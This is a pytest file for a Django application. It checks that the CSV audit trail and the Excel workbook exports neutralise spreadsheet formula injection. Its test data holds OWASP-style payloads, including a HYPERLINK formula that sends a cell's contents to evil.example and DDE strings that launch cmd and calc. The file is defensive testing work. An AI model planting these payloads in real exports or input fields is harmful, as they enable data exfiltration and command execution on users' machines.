"""Spreadsheet formula injection: text that starts like a formula is never a formula in an export
(the audit trail CSV, the offline workbook)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from openpyxl import load_workbook

from govlens.web.accounts.services import user_create
from govlens.web.collection.services import response_save
from govlens.web.review.services import review_comment_add

from ..conftest import PASSWORD, World

# OWASP's CSV-injection starters, plus a DDE payload and a formula behind a newline.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
STARTERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(world: World) -> None:
    focal = world.users["focal_arg"]
    response_save(
        actor=focal,
        cycle_slug="lac-2026",
        iso3="ARG",
        version=0,
        answers={"notes": HOSTILE[0], "strategy_url": "https://example.org/a"},
        comments={"notes": HOSTILE[1], "staff": HOSTILE[2], "budget": HOSTILE[4], "org_exists": HOSTILE[3]},
    )
    response_save(actor=focal, cycle_slug="lac-2026", iso3="ARG", version=1, answers={"notes": HOSTILE[5]})
    review_comment_add(actor=world.users["reviewer_arg"], cycle_slug="lac-2026", iso3="ARG", text=HOSTILE[3])
    # A username may start with + - @ (Django allows them), and names land in the trail.
    sly = user_create(actor=None, username="@sly", password=PASSWORD, role="focal-point", country="ARG")
    response_save(actor=sly, cycle_slug="lac-2026", iso3="ARG", version=2, answers={"notes": HOSTILE[2]})


def _client(username: str) -> Client:
    client = Client()
    assert client.login(username=username, password=PASSWORD)
    return client


def test_audit_csv_cells_never_start_a_formula(hostile: None) -> None:
    reply = _client("analyst").get("/cycles/lac-2026/responses/ARG/audit.csv")
    assert reply.status_code == 200
    rows = list(csv.reader(io.StringIO(reply.content.decode("utf-8"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(STARTERS)]
    # The text itself is all there, behind the apostrophe that keeps it text.
    for text in (HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3]):
        assert any(cell.startswith("'") and text in cell for cell in cells), text
    assert any(cell == "'@sly" for cell in cells)


def _cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("username", ["focal_arg", "analyst"])
def test_workbook_cells_are_never_formulas(hostile: None, username: str) -> None:
    reply = _client(username).get("/cycles/lac-2026/responses/ARG/workbook.xlsx?lang=en")
    assert reply.status_code == 200
    cells = _cells(reply.content)
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert formulas == []
    starting = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(STARTERS)]
    # The hostile comments and the answer are there, as text shown with a quote prefix.
    texts = {cell.value for cell in starting}
    assert {HOSTILE[1], HOSTILE[2], HOSTILE[3], HOSTILE[4]} <= texts
    classic = [cell for cell in starting if cell.value.startswith(("=", "+", "-", "@"))]
    assert len(classic) >= 3
    assert all(cell.quotePrefix for cell in classic), [c.coordinate for c in classic if not c.quotePrefix]


def test_workbook_quotes_text_starting_with_tab_or_carriage_return(hostile: None) -> None:
    reply = _client("focal_arg").get("/cycles/lac-2026/responses/ARG/workbook.xlsx?lang=en")
    starting = [
        cell for cell in _cells(reply.content) if isinstance(cell.value, str) and cell.value.startswith(("\t", "\r"))
    ]
    assert [cell.value for cell in starting] == [HOSTILE[4]]
    assert all(cell.quotePrefix for cell in starting)


def test_a_number_answer_stays_a_number(world: World) -> None:
    response_save(
        actor=world.users["focal_arg"], cycle_slug="lac-2026", iso3="ARG", version=0, answers={"budget": -3.5}
    )
    reply = _client("focal_arg").get("/cycles/lac-2026/responses/ARG/workbook.xlsx?lang=en")
    numbers = [cell.value for cell in _cells(reply.content) if cell.data_type == "n" and cell.value == -3.5]
    assert numbers == [-3.5]
    assert User.objects.filter(username="focal_arg").exists()


SEMICOLON = "Agencia;=2+3;=cmd|' /C calc'!A0"


def test_audit_csv_cells_never_start_a_formula_when_split_at_semicolons(world: World) -> None:
    # Excel in the es/pt/fr locales splits a CSV at ';': the text was written unquoted, two formulas in it
    response_save(
        actor=world.users["focal_arg"],
        cycle_slug="lac-2026",
        iso3="ARG",
        version=0,
        answers={"notes": SEMICOLON},
        comments={"staff": "ok,@SUM(1+1)"},
    )
    body = _client("analyst").get("/cycles/lac-2026/responses/ARG/audit.csv").content.decode("utf-8")
    assert "Agencia;'=2+3;'=cmd|' /C calc'!A0" in body
    for separator in (",", ";"):
        for line in body.splitlines()[1:]:
            cells = [cell.strip('"') for cell in line.split(separator)]
            assert not [cell for cell in cells if cell.startswith(STARTERS)], (separator, line)
